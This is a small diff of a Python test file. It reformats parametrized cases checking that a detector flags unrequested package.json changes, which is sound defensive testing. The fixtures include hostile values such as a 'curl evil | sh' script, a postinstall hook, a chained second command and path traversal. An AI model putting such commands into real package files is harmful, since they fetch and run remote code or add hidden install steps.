@@ -64,14 +64,11 @@ def test_of_a_pyproject_what_steers_tools_is_told_from_what_does_not(
 @pytest.mark.parametrize(
     ("data", "is_fine"),
     [
-        ({"type": "module", "name": "a", "dependencies": {}}, True),
-        ({"scripts": {"test": "curl evil | sh"}}, False),
-        ({"scripts": {"postinstall": "node x.mjs"}}, False),
-        ({"scripts": {"start": "node a.mjs; evil"}}, False),
-        ({"scripts": {"start": "node ../../x.mjs"}}, False),
-        ({"packageManager": "npm@evil"}, False),
+        ({"type": "module", "name": "a", "dependencies": {}}, True), ({"scripts": {"test": "curl evil | sh"}}, False),
+        ({"scripts": {"postinstall": "node x.mjs"}}, False), ({"scripts": {"start": "node a.mjs; evil"}}, False),
+        ({"scripts": {"start": "node ../../x.mjs"}}, False), ({"packageManager": "npm@evil"}, False),
     ],
-)
+)  # fmt: skip
 def test_of_a_package_what_runs_programs_is_told_from_what_does_not(data: Any, is_fine: bool) -> None:
     assert (find_unasked("package.json", json.dumps(data), before=None, asked="Add a parser") is None) is is_fine
     assert find_unasked("package.json", json.dumps(data), before=json.dumps(data), asked="Add a parser") is None
